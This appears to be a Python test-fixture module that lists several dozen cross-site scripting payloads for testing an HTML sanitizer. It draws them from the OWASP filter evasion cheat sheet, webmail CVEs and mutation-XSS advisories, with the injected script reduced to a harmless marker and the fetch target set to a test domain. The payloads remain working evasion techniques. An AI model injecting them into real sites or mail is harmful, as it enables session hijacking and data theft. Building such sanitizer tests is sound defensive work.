"""HTML that tries to run a script or to fetch something, each case with where it was published.

`EVIL` is what a case calls when it runs, `HOME` where it fetches from; the tests put names of theirs there.
"""

from __future__ import annotations

#: A script that tells that it ran, and an address that tells that it was fetched.
EVIL = "window.ran=1"
HOME = "http://elsewhere.test/fetched"

#: OWASP XSS Filter Evasion Cheat Sheet.
OWASP = (
    f"<SCRIPT>{EVIL}</SCRIPT>",
    f'<IMG SRC="javascript:{EVIL};">',
    f"<IMG SRC=javascript:{EVIL}>",
    f"<IMG SRC=JaVaScRiPt:{EVIL}>",
    f"<IMG SRC=`javascript:{EVIL}`>",
    f'<a onmouseover="{EVIL}">x</a>',
    f'<IMG """><SCRIPT>{EVIL}</SCRIPT>"\\>',
    f'<IMG SRC=# onmouseover="{EVIL}">',
    f'<IMG SRC=/ onerror="{EVIL}"></img>',
    f'<IMG onerror="{EVIL}" src=x>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#119;&#105;&#110;&#100;&#111;"
    "&#119;&#46;&#114;&#97;&#110;&#61;&#49;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x77&#x69&#x6E&#x64&#x6F&#x77&#x2E"
    "&#x72&#x61&#x6E&#x3D&#x31>",
    f'<IMG SRC="jav\tascript:{EVIL};">',
    f'<IMG SRC="jav&#x0A;ascript:{EVIL};">',
    f"<IMG SRC=java\0script:{EVIL}>",
    f'<IMG SRC=" &#14;  javascript:{EVIL};">',
    f'<SCRIPT/XSS SRC="{HOME}"></SCRIPT>',
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={EVIL}>",
    f"<<SCRIPT>{EVIL};//\\<</SCRIPT>",
    f"<SCRIPT SRC={HOME}?< B >",
    f'<IMG SRC="`<javascript:{EVIL}>`"',
    f"<iframe src={HOME} <",
    f"</TITLE><SCRIPT>{EVIL};</SCRIPT>",
    f'<INPUT TYPE="IMAGE" SRC="javascript:{EVIL};">',
    f'<BODY BACKGROUND="{HOME}">',
    f'<IMG DYNSRC="{HOME}"><IMG LOWSRC="{HOME}">',
    f'<STYLE>li {{list-style-image: url("{HOME}");}}</STYLE><UL><LI>x</br>',
    f"<svg/onload={EVIL}>",
    f'<BGSOUND SRC="{HOME}">',
    f'<BR SIZE="&{{{EVIL}}}">',
    f'<LINK REL="stylesheet" HREF="{HOME}">',
    f"<STYLE>@import'{HOME}';</STYLE>",
    f'<META HTTP-EQUIV="Link" Content="<{HOME}>; REL=stylesheet">',
    f'<IMG STYLE="xss:expr/*XSS*/ession({EVIL})">',
    f'<STYLE TYPE="text/javascript">{EVIL};</STYLE>',
    f'<STYLE>.XSS{{background-image:url("{HOME}");}}</STYLE><A CLASS=XSS></A>',
    f'<XSS STYLE="behavior: url({HOME});">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{EVIL};">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0; URL={HOME}">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>{EVIL}</script>">',
    f'<IFRAME SRC="javascript:{EVIL};"></IFRAME>',
    f'<IFRAME SRC=# onmouseover="{EVIL}"></IFRAME>',
    f'<FRAMESET><FRAME SRC="{HOME}"></FRAMESET>',
    f'<TABLE BACKGROUND="{HOME}"><TD BACKGROUND="{HOME}">x</TABLE>',
    f'<DIV STYLE="background-image: url({HOME})">x</DIV>',
    f"<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'{HOME}'\\0029\">x</DIV>",
    f'<DIV STYLE="width: expression({EVIL});">x</DIV>',
    f"<!--[if gte IE 4]><SCRIPT>{EVIL};</SCRIPT><![endif]-->",
    f'<BASE HREF="javascript:{EVIL};//"><a href=x>x</a>',
    f'<BASE HREF="{HOME}/"><img src=x.png>',
    f'<OBJECT TYPE="text/x-scriptlet" DATA="{HOME}"></OBJECT>',
    f'<EMBED SRC="{HOME}" AllowScriptAccess="always"></EMBED>',
    f'<EMBED SRC="data:image/svg+xml,<svg onload={EVIL} xmlns=http://www.w3.org/2000/svg />"></EMBED>',
    f'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="{HOME}"></SCRIPT>',
    f'<A HREF="javascript:{EVIL}" id=go>x</A>',
    f'<video><source onerror="{EVIL}" src=x></video><video src={HOME} autoplay></video>',
    f"<audio src={HOME} autoplay onplay={EVIL}></audio>",
    f"<form action={HOME} id=f><input name=x autofocus onfocus={EVIL}></form>",
    f"<button form=f formaction=javascript:{EVIL}>x</button>",
    f"<details open ontoggle={EVIL}>x</details>",
    f"<marquee onstart={EVIL}>x</marquee>",
    f"<select autofocus onfocus={EVIL}><textarea autofocus onfocus={EVIL}>",
    f"<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:{EVIL} type=image>",
    f'<a href="&Tab;javascript&colon;{EVIL}">x</a><a href="\x01javascript:{EVIL}">x</a>',
    f'<a href="data:text/html,<script>{EVIL}</script>">x</a><a href="vbscript:x">x</a>',
    f"<link rel=prefetch href={HOME}><link rel=dns-prefetch href={HOME}>",
    f'<img srcset="{HOME} 1x"><picture><source srcset="{HOME}"><img></picture>',
    f"<a href=x ping={HOME}>x</a><q cite={HOME}>x</q><del cite={HOME}>x</del>",
)

#: Roundcube: CVE-2020-12625 (cdata), CVE-2020-13965 (an XML attachment's namespace), CVE-2020-16145 and
#: CVE-2023-5631 (svg), CVE-2020-35730 (link references in text), CVE-2023-43770, CVE-2024-37383 (animate),
#: CVE-2024-42009 (desanitised body), CVE-2024-42008, CVE-2024-42010 (style).
ROUNDCUBE = (
    f"<![CDATA[<script>{EVIL}</script>]]>",
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={EVIL}></annotation-xml></math>',
    f'<svg><svg xmlns="http://www.w3.org/2000/svg" onload={EVIL}></svg></svg>',
    f'<svg id=x xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="{EVIL}"/></svg>',
    f"<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image"
    f" href='x' onerror='{EVIL}'/&gt;&lt;/svg&gt;#x\"></svg>",
    f'<svg><animate attributeName="href " values="javascript:{EVIL}" href="#link"/><a id=link><text'
    f" x=20 y=20>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={EVIL}></svg><svg><a xlink:href=javascript:{EVIL}>x</a></svg>",
    f'<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart={EVIL}'
    f' foo=bar">x</body>',
    f'<p>[<script>{EVIL}</script>]: <a href="javascript:{EVIL}">http://x</a></p>',
    '<div style="background:url(//elsewhere.test/fetched)">x</div>',
    f"<style>@import url(//elsewhere.test/fetched);a{{background:url({HOME})}}</style>",
    f"<div style=\"list-style-image: image-set('{HOME}' 1x)\">x</div>",
    f'<div style="background: \\75rl({HOME})">x</div><div style="background:u/**/rl({HOME})">x</div>',
    f'<div style="--a:url({HOME});background:var(--a)">x</div><div style="cursor:url({HOME}),auto">x</div>',
    f"<div style='content:\"</style><script>{EVIL}</script>\"'>x</div>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:999">x</div>',
)

#: SnappyMail and RainLoop: CVE-2022-29360 (a text node taken for markup), CVE-2024-45800 (mutation by MathML
#: and namespaces); Zimbra CVE-2024-27443 and Cypht: the same shapes. Proton Mail, SonarSource 2022: svg in
#: place of style.
SNAPPYMAIL = (
    f'<div data-x-div-type="html">&lt;img src=x onerror={EVIL}&gt;</div>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={EVIL}&gt;">',
    f'<svg><proton-svg><style><a alt="</style><img src=x onerror={EVIL}>"></style></proton-svg></svg>',
    f'<a href="x" title=\'"><img src=x onerror={EVIL}>\'>x</a>',
    f'<noscript><p title="</noscript><img src=x onerror={EVIL}>">',
)

#: Mutation XSS: DOMPurify's, mXSS cheat sheet of SonarSource, Mozilla bleach CVE-2020-6802, -6816, ammonia's
#: RUSTSEC-2019-0001, RUSTSEC-2021-0074, RUSTSEC-2022-0003.
MUTATION = (
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={EVIL}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={EVIL}>">',
    f'<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror={EVIL} src>">',
    f"<noscript><style></noscript><img src=x onerror={EVIL}>",
    f"<svg><style>&lt;img src=x onerror={EVIL}&gt;</style></svg>",
    f"<svg><desc><title><style></title></desc></svg><img src=x onerror={EVIL}></style>",
    f'<xmp><p title="</xmp><img src=x onerror={EVIL}>">',
    f"<listing>&lt;img src=x onerror={EVIL}&gt;</listing>",
    f"<plaintext><img src=x onerror={EVIL}>",
    f'<textarea><a title="</textarea><img src=x onerror={EVIL}>"></textarea>',
    f'<title><a title="</title><img src=x onerror={EVIL}>"></title>',
    f'<iframe><a title="</iframe><img src=x onerror={EVIL}>"></iframe>',
    f'<noframes><a title="</noframes><img src=x onerror={EVIL}>"></noframes>',
    f'<noembed><a title="</noembed><img src=x onerror={EVIL}>"></noembed>',
    f'<math><!--<p title="--><img src=x onerror={EVIL}>"></math>',
    f"<!--><img src=x onerror={EVIL}>--><!---><img src=x onerror={EVIL}>--><!--!><img src=x onerror={EVIL}>",
    f"<a href='x' \x0b onclick={EVIL}>x</a><img/src/onerror={EVIL}><img src=x\x0conerror={EVIL}>",
    f"<template><img src=x onerror={EVIL}></template><div><template shadowrootmode=open><img src=x"
    f" onerror={EVIL}></template></div>",
    f"<select><style></select><img src=x onerror={EVIL}></style></select>",
    f"<table><td><svg><desc><td><style><img src=x onerror={EVIL}></style>",
    f"<div><math><mi><style><img src=x onerror={EVIL}></style></mi></math></div>",
    "<div>" * 600 + f"<img src=x onerror={EVIL}>",
    "<svg><font>" * 200 + f"<img src=x onerror={EVIL}>",
)

CASES = (*OWASP, *ROUNDCUBE, *SNAPPYMAIL, *MUTATION)
